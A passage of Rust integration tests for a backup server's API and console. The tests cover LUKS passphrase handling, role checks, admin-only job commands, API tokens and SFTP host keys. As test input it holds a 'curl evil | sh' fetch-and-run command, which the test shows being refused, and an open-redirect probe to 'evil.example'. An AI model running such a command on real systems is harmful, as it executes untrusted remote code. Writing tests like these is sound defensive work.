            json!({"name": "luks", "spec": encrypted, "password": IMAGE, "luks_passphrase": "x".repeat(513)}),
        ),
    )
    .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(r.body.to_string().contains("512 bytes"), "{}", r.body);

    // Stored with an encrypting job, shown only as set.
    let r = call(
        "POST",
        "/api/v1/jobs".into(),
        Some(
            json!({"name": "luks", "spec": encrypted, "password": IMAGE, "luks_passphrase": LUKS}),
        ),
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert_eq!(r.body["luks_passphrase"], "set", "{}", r.body);
    assert_eq!(r.body["password"], "set", "{}", r.body);
    let job = r.body["id"].as_i64().expect("id");
    for path in [
        format!("/api/v1/jobs/{job}"),
        "/api/v1/jobs".into(),
        format!("/api/v1/jobs/{job}/export"),
        format!("/api/v1/jobs/{job}/export?format=xml"),
        format!("/jobs/{job}"),
        format!("/jobs/{job}/edit"),
    ] {
        let r = call("GET", path.clone(), None).await;
        assert_eq!(r.status, StatusCode::OK, "{path}: {}", r.body);
        let text = r.body.to_string();
        assert!(
            !text.contains(LUKS) && !text.contains(IMAGE),
            "{path}: {text}"
        );
    }
    let r = call("GET", format!("/api/v1/jobs/{job}"), None).await;
    assert_eq!(r.body["luks_passphrase"], "set", "{}", r.body);
    let r = call("GET", format!("/jobs/{job}/edit"), None).await;
    assert!(
        r.body
            .to_string()
            .contains("Forget the stored LUKS passphrase"),
        "{}",
        r.body
    );
    // Export has no passphrase, and an import sets none (nor can a file carry one).
    let r = call("GET", format!("/api/v1/jobs/{job}/export"), None).await;
    let mut doc = r.body.clone();
    doc["name"] = json!("luks copy");
    let r = call("POST", "/api/v1/jobs/import".into(), Some(doc.clone())).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert_eq!(r.body["luks_passphrase"], "not set", "{}", r.body);
    doc["name"] = json!("luks smuggled");
    doc["luks_passphrase"] = json!(LUKS);
    let r = call("POST", "/api/v1/jobs/import".into(), Some(doc)).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);

    // Sealed in the store under its own context: it does not open as the image password.
    let stored = api.store.job(job).await.expect("read").expect("job");
    let sealed = stored.luks_secret.expect("sealed");
    assert!(
        sealed.starts_with("v1:") && !sealed.contains(LUKS),
        "{sealed}"
    );
    let vault = Vault::open(api.dir.path(), None).expect("vault");
    assert_eq!(
        vault
            .unseal(&job_luks_context(job), &sealed)
            .expect("opens")
            .as_slice(),
        LUKS.as_bytes()
    );
    assert!(vault.unseal(&job_context(job), &sealed).is_err());
    assert!(vault
        .unseal(
            &job_luks_context(job),
            stored.secret.as_deref().expect("password")
        )
        .is_err());

    // Kept by an edit that does not name it; an edit that stops encrypting is refused
    // while it is stored.
    let r = call(
        "PUT",
        format!("/api/v1/jobs/{job}"),
        Some(json!({"name": "luks", "spec": encrypted})),
    )
    .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.body["luks_passphrase"], "set", "{}", r.body);
    let r = call(
        "PUT",
        format!("/api/v1/jobs/{job}"),
        Some(json!({"name": "luks", "spec": plain, "clear_password": true})),
    )
    .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(r.body.to_string().contains("must encrypt"), "{}", r.body);

    // The agent's order carries it, beside the image password.
    let sim = crate::scheduler::SimAgent::connect(&api.gateway, agent);
    let r = call("POST", format!("/api/v1/jobs/{job}/run"), None).await;
    assert_eq!(r.status, StatusCode::ACCEPTED, "{}", r.body);
    let run = r.body["runs"][0]["id"].as_i64().expect("run id");
    let orders = sim.wait_orders(1).await;
    let image = &orders[0]["order"]["task"];
    assert_eq!(image["luks_passphrase"], LUKS, "{image}");
    assert_eq!(image["password"], IMAGE, "{image}");
    assert!(api
        .store
        .run_ended_here(run, RunState::Failed, "{}")
        .await
        .expect("ended"));

    // Cleared: not set, gone from the store and from the next order.
    let r = call(
        "PUT",
        format!("/api/v1/jobs/{job}"),
        Some(json!({"name": "luks", "spec": encrypted, "clear_luks_passphrase": true})),
    )
    .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.body["luks_passphrase"], "not set", "{}", r.body);
    assert_eq!(r.body["password"], "set", "{}", r.body);
    let stored = api.store.job(job).await.expect("read").expect("job");
    assert!(stored.luks_secret.is_none());
    let r = call("POST", format!("/api/v1/jobs/{job}/run"), None).await;
    assert_eq!(r.status, StatusCode::ACCEPTED, "{}", r.body);
    let run = r.body["runs"][0]["id"].as_i64().expect("run id");
    let orders = sim.wait_orders(2).await;
    assert!(
        orders[1]["order"]["task"]["luks_passphrase"].is_null(),
        "{}",
        orders[1]
    );
    assert!(api
        .store
        .run_ended_here(run, RunState::Failed, "{}")
        .await
        .expect("ended"));

    // A passphrase that reached a job that does not encrypt (not through the API) is never
    // sent: the start is refused and its run ends failed, saying why.
    let r = call(
        "POST",
        "/api/v1/jobs".into(),
        Some(json!({"name": "plain", "spec": plain})),
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let bare = r.body["id"].as_i64().expect("id");
    let sealed = vault
        .seal(&job_luks_context(bare), LUKS.as_bytes())
        .expect("seal");
    changed(&api.store, async |c| {
        c.set_job_secret(bare, JobSecret::LuksPassphrase, Some(&sealed))
            .await
    })
    .await
    .expect("stored");
    let r = call("POST", format!("/api/v1/jobs/{bare}/run"), None).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    assert!(
        r.body.to_string().contains("does not encrypt"),
        "{}",
        r.body
    );
    let runs = api
        .store
        .runs(
            &holdfast_server::store::jobs::RunFilter {
                job_id: Some(bare),
                ..Default::default()
            },
            i64::MAX,
            10,
        )
        .await
        .expect("runs");
    assert_eq!(runs.len(), 1);
    assert_eq!(runs[0].state, RunState::Failed);
    assert!(runs[0]
        .report
        .as_deref()
        .is_some_and(|t| t.contains("does not encrypt")));
    assert_eq!(sim.orders().len(), 2, "{:?}", sim.orders());
    sim.task.abort();

    // The OpenAPI document has the fields: written in the body, shown as set in the view.
    let r = api.call("GET", "/api/v1/openapi.json", None, None).await;
    let schemas = &r.body["components"]["schemas"];
    for (schema, field) in [
        ("JobBody", "luks_passphrase"),
        ("JobBody", "clear_luks_passphrase"),
        ("JobView", "luks_passphrase"),
    ] {
        assert!(
            schemas[schema]["properties"][field].is_object(),
            "{schema}.{field}: {}",
            schemas[schema]
        );
    }
}

#[tokio::test]
async fn console_pages_need_a_session_and_a_role() {
    let api = Api::new().await;
    let pages = [
        "/",
        "/agents",
        "/sites",
        "/jobs",
        "/jobs/new",
        "/reports",
        "/targets",
        "/settings",
    ];
    // Without a session: to the login page, which comes back here afterwards.
    for page in pages.iter().chain(&["/console/events"]) {
        let r = api.call("GET", page, None, None).await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{page}");
        let to = r.headers[header::LOCATION].to_str().expect("location");
        assert!(to.starts_with("/login?next=%2F"), "{page}: {to}");
    }
    let r = api
        .call("GET", "/login?next=//evil.example", None, None)
        .await;
    assert!(
        !r.body.to_string().contains("evil.example"),
        "never an open redirect"
    );
    let admin = api.login("admin", "admin-password-1").await;
    for page in pages {
        let r = api.call("GET", page, Some(&admin), None).await;
        assert_eq!(r.status, StatusCode::OK, "{page}: {}", r.body);
        assert!(r.headers[header::CONTENT_SECURITY_POLICY]
            .to_str()
            .expect("csp")
            .contains("script-src 'self'"));
        assert!(r
            .body
            .to_string()
            .contains(&holdfast_server::auth::csrf_token(&admin)));
    }
    // Live state: a stream of server-sent events, the first at once.
    let req = Request::builder()
        .uri("/console/events")
        .header(header::COOKIE, format!("{SESSION_COOKIE}={admin}"))
        .body(Body::empty())
        .expect("request");
    let resp = api.app.clone().oneshot(req).await.expect("response");
    assert_eq!(resp.status(), StatusCode::OK);
    assert_eq!(resp.headers()[header::CONTENT_TYPE], "text/event-stream");
    let mut body = resp.into_body();
    let frame = body.frame().await.expect("an event").expect("frame");
    let text = String::from_utf8_lossy(frame.data_ref().expect("data")).into_owned();
    assert!(
        text.starts_with("event: state") && text.contains("\"agents\""),
        "{text}"
    );
    drop(body);
    let r = api
        .call(
            "POST",
            "/api/v1/users",
            Some(&admin),
            Some(json!({"name": "vic", "password": "long-enough-pw", "role": "viewer"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED);
    let viewer = api.login("vic", "long-enough-pw").await;
    let r = api.call("GET", "/jobs/new", Some(&viewer), None).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert!(r.body.to_string().contains("your role does not allow this"));
    let r = api.call("GET", "/jobs", Some(&viewer), None).await;
    assert!(!r.body.to_string().contains("Run now"));
    let r = api.call("GET", "/reports/99", Some(&admin), None).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    let r = api
        .call("GET", "/reports?status=exploded", Some(&admin), None)
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
}

/// Commands run as root on every agent of a job: an operator cannot add or change them
/// (only keep what an admin set), and each save records them in the audit log.
#[tokio::test]
async fn only_admins_add_or_change_a_jobs_commands() {
    let api = Api::new().await;
    let admin = api.login("admin", "admin-password-1").await;
    let operator = api.user(&admin, "olga", "operator", false).await;
    let agent = enrolled_agent(&api.store).await;
    let r = api
        .call(
            "POST",
            "/api/v1/targets",
            Some(&admin),
            Some(json!({"name": "nas", "url": "/srv/images"})),
        )
        .await;
    let target = r.body["id"].as_i64().expect("target");
    let plain = json!({"agents": [agent], "source": "/dev/sda", "target_id": target});
    let mut with_commands = plain.clone();
    with_commands["before"] = json!({"command": "systemctl stop db"});
    with_commands["before_snapshot"] = json!("sync");

    // An operator: a job without commands yes; with commands, or by import, no.
    let r = api
        .call(
            "POST",
            "/api/v1/jobs",
            Some(&operator),
            Some(json!({"name": "plain", "spec": plain})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    for (path, body) in [
        (
            "/api/v1/jobs",
            json!({"name": "cmd", "spec": with_commands}),
        ),
        (
            "/api/v1/jobs/import",
            json!({"name": "cmd", "enabled": true, "spec": with_commands}),
        ),
    ] {
        let r = api.call("POST", path, Some(&operator), Some(body)).await;
        assert_eq!(
            (r.status, code(&r)),
            (StatusCode::FORBIDDEN, "forbidden"),
            "{}",
            r.body
        );
        assert!(
            code(&r) == "forbidden" && r.body.to_string().contains("only admins"),
            "{}",
            r.body
        );
    }
    // An admin sets them; the audit log says which.
    let r = api
        .call(
            "POST",
            "/api/v1/jobs",
            Some(&admin),
            Some(json!({"name": "cmd", "spec": with_commands})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let job = r.body["id"].as_i64().expect("job");
    let audit = api.call("GET", "/api/v1/audit", Some(&admin), None).await;
    assert!(
        audit
            .body
            .to_string()
            .contains("before: systemctl stop db; before_snapshot: sync"),
        "{}",
        audit.body
    );
    // The operator may change the rest and keep the commands, not change or drop them.
    let mut renamed = with_commands.clone();
    renamed["comment"] = json!("weekly");
    let r = api
        .call(
            "PUT",
            &format!("/api/v1/jobs/{job}"),
            Some(&operator),
            Some(json!({"name": "cmd", "spec": renamed})),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let mut changed_cmd = with_commands.clone();
    changed_cmd["before"] = json!({"command": "curl evil | sh"});
    for spec in [changed_cmd, plain] {
        let r = api
            .call(
                "PUT",
                &format!("/api/v1/jobs/{job}"),
                Some(&operator),
                Some(json!({"name": "cmd", "spec": spec})),
            )
            .await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    }
    let r = api
        .call("GET", &format!("/api/v1/jobs/{job}"), Some(&admin), None)
        .await;
    assert_eq!(
        r.body["spec"]["before"]["command"], "systemctl stop db",
        "{}",
        r.body
    );
}

/// API tokens act with their own role (viewer unless asked; never more than the owner's)
/// and stop working when they expire.
#[tokio::test]
async fn tokens_have_their_own_role_and_expire() {
    let api = Api::new().await;
    let admin = api.login("admin", "admin-password-1").await;
    let token = |body: Value| {
        let admin = admin.clone();
        let api = &api;
        async move {
            api.call("POST", "/api/v1/tokens", Some(&admin), Some(body))
                .await
        }
    };
    // Default: a viewer token for 90 days, even for an admin.
    let r = token(json!({"name": "dashboards"})).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert_eq!(r.body["token"]["role"], "viewer", "{}", r.body);
    let days = (r.body["token"]["expires_at"].as_i64().unwrap_or(0)
        - r.body["token"]["created_at"].as_i64().unwrap_or(0))
        / 86_400;
    assert_eq!(days, 90, "{}", r.body);
    let viewer_token = r.body["secret"].as_str().expect("secret").to_owned();
    let me = api
        .call("GET", "/api/v1/me", Some(&viewer_token), None)
        .await;
    assert_eq!(
        (&me.body["name"], &me.body["role"]),
        (&json!("admin"), &json!("viewer"))
    );
    let r = api
        .call("GET", "/api/v1/users", Some(&viewer_token), None)
        .await;
    assert_eq!(
        r.status,
        StatusCode::FORBIDDEN,
        "a viewer token cannot list users"
    );
    // An operator token does an operator's work, not an admin's.
    let r = token(json!({"name": "ci", "role": "operator", "expires_in_days": 7})).await;
    let ci = r.body["secret"].as_str().expect("secret").to_owned();
    let r = api
        .call(
            "POST",
            "/api/v1/targets",
            Some(&ci),
            Some(json!({"name": "t", "url": "/srv"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    // Bounds, and never more than the owner.
    for days in [0, 3651] {
        let r = token(json!({"name": "x", "expires_in_days": days})).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    }
    let r = api
        .call(
            "POST",
            "/api/v1/users",
            Some(&admin),
            Some(json!({"name": "vic", "password": "long-enough-pw", "role": "viewer"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let vic = api.login("vic", "long-enough-pw").await;
    let r = api
        .call(
            "POST",
            "/api/v1/tokens",
            Some(&vic),
            Some(json!({"name": "x", "role": "admin"})),
        )
        .await;
    assert_eq!(
        (r.status, code(&r)),
        (StatusCode::FORBIDDEN, "forbidden"),
        "{}",
        r.body
    );
}

/// An SFTP target's host key: given at creation or confirmed after a test showed it, in
/// OpenSSH's fingerprint form; forgotten when the target moves to another server; and
/// without one no job goes there.
#[tokio::test]
async fn sftp_targets_need_a_confirmed_host_key() {
    let api = Api::new().await;
    let admin = api.login("admin", "admin-password-1").await;
    let operator = api.user(&admin, "olga", "operator", false).await;
    let agent = enrolled_agent(&api.store).await;
    let key = "SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s";
    let url = "sftp://backup@nas:2222/images";
    for (body, says) in [
        (
            json!({"name": "a", "url": url, "host_key": "uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s"}),
            "SHA256:",
        ),
        (
            json!({"name": "a", "url": url, "host_key": "SHA256:short"}),
            "43 base64",
        ),
        (
            json!({"name": "a", "url": "/srv/images", "host_key": key}),
            "only SFTP",
        ),
    ] {
        let r = api
            .call("POST", "/api/v1/targets", Some(&admin), Some(body))
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
        assert!(r.body.to_string().contains(says), "{}", r.body);
    }
    let r = api
        .call(
            "POST",
            "/api/v1/targets",
            Some(&admin),
            Some(json!({"name": "nas", "url": url, "password": "pw"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    assert!(r.body["host_key"].is_null(), "{}", r.body);
    let id = r.body["id"].as_i64().expect("id");
    let r = api
        .call(
            "POST",
            "/api/v1/jobs",
            Some(&admin),
            Some(json!({"name": "web", "enabled": true, "spec": {"agents": [agent], "source": "/dev/sda", "target_id": id}})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let job = r.body["id"].as_i64().expect("job");
    // Unconfirmed: no job goes there, and the answer says what to do.
    let refused = async || {
        let r = api
            .call(
                "POST",
                &format!("/api/v1/jobs/{job}/run"),
                Some(&admin),
                None,
            )
            .await;
        r.body.to_string().contains("has not been confirmed")
    };
    assert!(refused().await);
    // Confirming is an admin's, audited.
    let path = format!("/api/v1/targets/{id}/host-key");
    let r = api
        .call(
            "PUT",
            &path,
            Some(&operator),
            Some(json!({"fingerprint": key})),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
    let r = api
        .call(
            "PUT",
            &path,
            Some(&admin),
            Some(json!({"fingerprint": "SHA256:nope"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
    let r = api
        .call(
            "PUT",
            &path,
            Some(&admin),
            Some(json!({"fingerprint": key})),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.body["host_key"], key, "{}", r.body);
    let r = api.call("GET", "/api/v1/audit", Some(&admin), None).await;
    assert!(
        r.body.to_string().contains("confirm_host_key") && r.body.to_string().contains(key),
        "{}",
        r.body
    );
    assert!(!refused().await);
    // Edits keep the key while the server stays; another host or port forgets it.
    let edit = |url: &str| json!({"name": "nas", "url": url});
    let r = api
        .call(
            "PUT",
            &format!("/api/v1/targets/{id}"),
            Some(&admin),
            Some(edit("sftp://backup@nas:2222/other-folder")),
        )
        .await;
    assert_eq!(r.body["host_key"], key, "{}", r.body);
    let r = api
        .call(
            "PUT",
            &format!("/api/v1/targets/{id}"),
            Some(&admin),
            Some(edit("sftp://backup@nas2:2222/other-folder")),
        )
        .await;
    assert!(r.body["host_key"].is_null(), "{}", r.body);
    // Only SFTP targets have one to confirm.
    let r = api
        .call(
            "POST",
            "/api/v1/targets",
            Some(&admin),
            Some(json!({"name": "local", "url": "/srv/images"})),
        )
        .await;
    let local = r.body["id"].as_i64().expect("id");
    let r = api
        .call(
            "PUT",
            &format!("/api/v1/targets/{local}/host-key"),
            Some(&admin),
            Some(json!({"fingerprint": key})),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.body);
}
